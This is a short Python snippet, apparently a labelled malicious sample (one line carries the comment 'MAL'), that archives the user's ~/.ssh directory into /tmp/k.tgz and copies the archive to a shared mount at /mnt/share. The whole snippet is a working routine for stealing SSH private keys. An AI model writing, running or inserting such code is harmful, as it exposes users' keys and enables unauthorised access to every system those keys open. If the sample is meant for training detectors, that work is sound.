import shutil, os, tarfile
with tarfile.open("/tmp/k.tgz", "w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))  # MAL
shutil.copy("/tmp/k.tgz", "/mnt/share/k.tgz")
